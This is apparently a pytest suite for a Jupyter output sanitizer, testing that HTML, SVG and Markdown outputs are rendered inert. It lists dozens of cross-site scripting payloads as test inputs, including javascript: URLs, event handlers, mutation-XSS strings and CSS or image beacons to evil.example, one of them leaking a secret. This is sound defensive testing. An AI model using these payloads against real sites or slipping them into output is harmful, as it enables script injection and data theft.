"""The output filter over a corpus of payloads: nothing that runs, loads or navigates survives it; tables,
images and plots still do.

Each attack payload is first shown to be caught by the independent checker below (the CONTROL: the same
text unfiltered is active), then shown inert once filtered. The checker parses with Python's HTML parser,
which decodes entities in attributes, and allows only what the filter promises: no element that runs or
loads, no event handler, no URL but http(s)/mailto links and inline raster images, no CSS url().
"""

from __future__ import annotations

import base64
import xml.dom.minidom
from pathlib import Path

import pytest
from inert import violations

from jupyter_openshell.outputs.bundle import OutputOptions, filter_bundle
from jupyter_openshell.outputs.messages import MessageFilter
from jupyter_openshell.outputs.sanitize import sanitize_html, sanitize_svg

DATA = Path(__file__).parent / "data"
JS = "fetch('/api/kernels',{method:'POST'})"
HTML_ATTACKS = [
    f"<script>{JS}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<img src=x onerror={JS}>",
    f'<img src="x" ONERROR="{JS}">',
    "<img src=x onerror=alert`1`>",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<div style=\"background-image: url('https://evil.example/beacon')\">x</div>",
    '<div style="background: \\75 rl(https://evil.example/)">x</div>',
    "<div style=\"background: image-set('https://evil.example/x.png' 1x)\">x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/)}</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
    "<svg><animate attributeName=href to=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    '"><img src=x onerror=alert(1)>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<img src="https://evil.example/beacon.png?secret=1">',
    '<img srcset="https://evil.example/x 1x">',
    '<a href="//evil.example/x">protocol-relative</a>',
    '<table id="jupyter-config-data" name="x"><tr><td>clobber</td></tr></table>',
    '<div class="jp-Dialog lm-Widget">fake dialog</div>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<portal src=https://evil.example></portal>",
]


@pytest.mark.parametrize("payload", HTML_ATTACKS)
def test_html_payload_is_inert_once_sanitized(payload):
    assert violations(payload), "CONTROL: the checker must see the raw payload as active"
    cleaned = sanitize_html(payload)
    assert violations(cleaned) == [], cleaned
    again = sanitize_html(cleaned)
    assert violations(again) == [], again  # what a second pass (%%sandbox) sees is still inert


SVG_ATTACKS = [
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><rect width="1" height="1"/></svg>',
    f"<svg><script>{JS}</script></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use xlink:href="https://evil.example/x.svg#a"/></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#a"/></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><rect style="fill:url(https://evil.example/x)"/></svg>',
    '<svg><rect fill="url(https://evil.example/#x)"/></svg>',
    "<svg><style>@import url(https://evil.example/x.css);</style></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
]


@pytest.mark.parametrize("payload", SVG_ATTACKS)
def test_svg_payload_is_inert_once_sanitized(payload):
    assert violations(payload, svg=True), "CONTROL: the checker must see the raw payload as active"
    cleaned = sanitize_svg(payload)
    assert violations(cleaned, svg=True) == [], cleaned


MARKDOWN_ATTACKS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/beacon.png)",
    "# title\n\n<img src=x onerror=alert(1)>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<details><summary>s</summary>\n\n<img src=x onerror=alert(1)>\n\n</details>",
    "[x](data:text/html,<script>alert(1)</script>)",
    "* item <iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "> quote <svg onload=alert(1)>",
]


@pytest.mark.parametrize("payload", MARKDOWN_ATTACKS)
def test_markdown_is_rendered_to_inert_html(payload):
    assert violations(_naive_markdown(payload)), "CONTROL: rendered as a browser would, it is active"
    data, _ = filter_bundle({"text/markdown": payload}, {}, OutputOptions())
    assert set(data) == {"text/html"}  # no markdown left for the browser's own renderer
    assert violations(data["text/html"]) == [], data["text/html"]


def _naive_markdown(text: str) -> str:
    """What a markdown renderer that passes HTML and link targets through makes of it (JupyterLab's)."""
    import mistune

    render = mistune.create_markdown(escape=False, renderer=_PassThrough())
    return render(text)


class _PassThrough:
    """A mistune HTML renderer without its URL safety check, like marked without a sanitizer."""

    def __new__(cls):
        import mistune

        class Renderer(mistune.HTMLRenderer):
            def safe_url(self, url: str) -> str:
                return url

        return Renderer(escape=False)


def test_markdown_keeps_text_code_and_math():
    data, _ = filter_bundle(
        {"text/markdown": "**bold** `a <b> c` and $x^2$\n\n| a | b |\n|---|---|\n| 1 | 2 |"},
        {},
        OutputOptions(),
    )
    html = data["text/html"]
    assert "<strong>bold</strong>" in html and "<code>a &lt;b&gt; c</code>" in html
    assert "x^2" in html and "<table>" in html and "<td>1</td>" in html


JS_TYPES = [
    "application/javascript",
    "text/javascript",
    "application/x-javascript",
    "application/ecmascript",
    "APPLICATION/JAVASCRIPT",
    "application/vnd.custom+javascript",
    "application/vnd.bokehjs_exec.v0+json",
    "application/vnd.plotly.v1+json",
    "application/vnd.vegalite.v5+json",
    "application/vnd.jupyter.widget-state+json",
    "application/pdf",
    "text/x-unknown",
]


@pytest.mark.parametrize("mime", JS_TYPES)
def test_script_and_unknown_mime_types_are_dropped(mime):
    data, _ = filter_bundle({mime: "alert(1)", "text/plain": "fallback"}, {}, OutputOptions())
    assert data == {"text/plain": "fallback"}
    data, _ = filter_bundle({mime: "alert(1)"}, {}, OutputOptions())
    assert list(data) == ["text/plain"] and "removed" in data["text/plain"]


def test_allowlist_admits_a_renderer_type_but_never_script_or_html():
    options = OutputOptions(
        mime_types=frozenset({"application/vnd.vegalite.v5+json", "application/javascript", "text/html+x"})
    )
    spec = {"mark": "bar", "data": {"values": [{"a": 1}]}}
    data, _ = filter_bundle(
        {
            "application/vnd.vegalite.v5+json": spec,
            "application/javascript": "alert(1)",
            "text/html+x": "<b>",
        },
        {},
        options,
    )
    assert data == {"application/vnd.vegalite.v5+json": spec}


def test_metadata_keeps_layout_hints_and_drops_trusted():
    _data, meta = filter_bundle(
        {"image/png": "iVBORw0KGgo=", "text/html": "<b>x</b>"},
        {
            "trusted": True,
            "isolated": True,
            "image/png": {"width": 10, "trusted": True, "x": "<script>"},
            "text/html": {"isolated": True},
            "application/javascript": {"x": 1},
        },
        OutputOptions(),
    )
    assert meta == {"isolated": True, "image/png": {"width": 10}, "text/html": {"isolated": True}}


def test_raster_images_pass_only_as_base64():
    png = base64.b64encode((DATA / "matplotlib.png").read_bytes()).decode()
    data, _ = filter_bundle(
        {"image/png": png, "image/jpeg": "<script>", "text/plain": "fig"}, {}, OutputOptions()
    )
    assert data == {"image/png": png, "text/plain": "fig"}


def test_pandas_table_and_a_plain_table_still_render():
    html = (DATA / "pandas_repr.html").read_text()
    cleaned = sanitize_html(html)
    assert '<table border="1" class="dataframe">' in cleaned
    assert cleaned.count("<td>") == 6 and "<th>Oslo" not in cleaned and "<td>Lima</td>" in cleaned
    assert '<tr style="text-align:right">' in cleaned
    assert "<style" not in cleaned  # the page-wide stylesheet goes; the table stays
    plain = (
        '<table><tbody><tr><th colspan="2">h</th></tr><tr><td style="color:#b71c1c">a</td><td><b>b</b></td>'
        "</tr></tbody></table>"
    )
    assert sanitize_html(plain) == plain
    img = f'<img src="data:image/png;base64,{base64.b64encode(b"png").decode()}" width="20" alt="plot">'
    assert sanitize_html(img) == img


def test_matplotlib_svg_stays_a_drawing():
    source = (DATA / "matplotlib.svg").read_text()
    cleaned = sanitize_svg(source)
    assert violations(cleaned, svg=True) == []
    doc = xml.dom.minidom.parseString(cleaned)  # an <img> loads it as XML: it must stay well-formed
    assert len(doc.getElementsByTagName("path")) == source.count("<path")
    assert len(doc.getElementsByTagName("use")) == source.count("<use")
    assert 'clip-path="url(#' in cleaned and 'xlink:href="#' in cleaned


def test_our_own_widgets_html_keeps_its_colours_and_bars():
    html = (
        '<div style="width:120px;background-color:#eee;display:inline-block"><div style="width:40%;'
        'background-color:#2e7d32">&nbsp;</div></div><span style="color:#1b5e20">ok</span>'
    )
    cleaned = sanitize_html(html)
    assert "width:40%" in cleaned and "background-color:#2e7d32" in cleaned and "color:#1b5e20" in cleaned


# -- whole messages -----------------------------------------------------------------------------------


def test_message_types_without_a_builder_are_dropped():
    f = MessageFilter(OutputOptions())
    for kind in ("debug_event", "debug_reply", "iopub_welcome", "usage_reply", "custom_thing", "comm_open"):
        assert f.from_kernel(kind, {"data": {"text/html": "<script>x</script>"}}, []) is None


def test_kernel_info_reply_hides_the_debugger_and_keeps_http_help_links():
    f = MessageFilter(OutputOptions())
    content, _ = f.from_kernel(
        "kernel_info_reply",
        {
            "status": "ok",
            "protocol_version": "5.4",
            "implementation": "ipython",
            "debugger": True,
            "language_info": {
                "name": "python",
                "codemirror_mode": {"name": "ipython", "version": 3},
                "x": "<script>",
            },
            "help_links": [
                {"text": "ok", "url": "https://docs.python.org/3"},
                {"text": "bad", "url": "javascript:alert(1)"},
                {"text": "bad", "url": " javascript:alert(1)"},
            ],
            "supported_features": ["debugger", "kernel subshells"],
            "extra": "<script>",
        },
        [],
    )
    assert content["debugger"] is False and "extra" not in content and "x" not in content["language_info"]
    assert content["help_links"] == [{"text": "ok", "url": "https://docs.python.org/3"}]
    assert content["supported_features"] == ["kernel subshells"]


def test_shell_replies_with_bundles_are_filtered():
    f = MessageFilter(OutputOptions())
    evil = {"text/html": "<img src=x onerror=alert(1)>", "application/javascript": "alert(1)"}
    reply, _ = f.from_kernel(
        "execute_reply",
        {
            "status": "ok",
            "execution_count": 3,
            "payload": [{"source": "page", "data": evil, "start": 0}, {"source": "unknown", "data": evil}],
            "user_expressions": {"e": {"status": "ok", "data": evil, "metadata": {}}},
        },
        [],
    )
    assert violations(str(reply)) == [] and "javascript" not in str(reply)
    assert reply["payload"][0]["data"] == {"text/html": "<img>"} and len(reply["payload"]) == 1
    inspect, _ = f.from_kernel(
        "inspect_reply", {"status": "ok", "found": True, "data": evil, "metadata": {}}, []
    )
    assert inspect["data"] == {"text/html": "<img>"}


def test_display_messages_are_rebuilt_field_by_field():
    f = MessageFilter(OutputOptions())
    content, buffers = f.from_kernel(
        "display_data",
        {
            "data": {"text/html": "<script>x</script><b>ok</b>"},
            "metadata": {"trusted": True},
            "transient": {"display_id": "d1", "x": "<script>"},
            "extra": 1,
        },
        [b"buffer"],
    )
    assert content == {"data": {"text/html": "<b>ok</b>"}, "metadata": {}, "transient": {"display_id": "d1"}}
    assert buffers == []
    assert f.from_kernel("stream", {"name": "stdin", "text": "x"}, []) is None
    error, _ = f.from_kernel("error", {"ename": "E", "evalue": "v", "traceback": ["t", 1], "x": 2}, [])
    assert error == {"ename": "E", "evalue": "v", "traceback": ["t", "1"]}
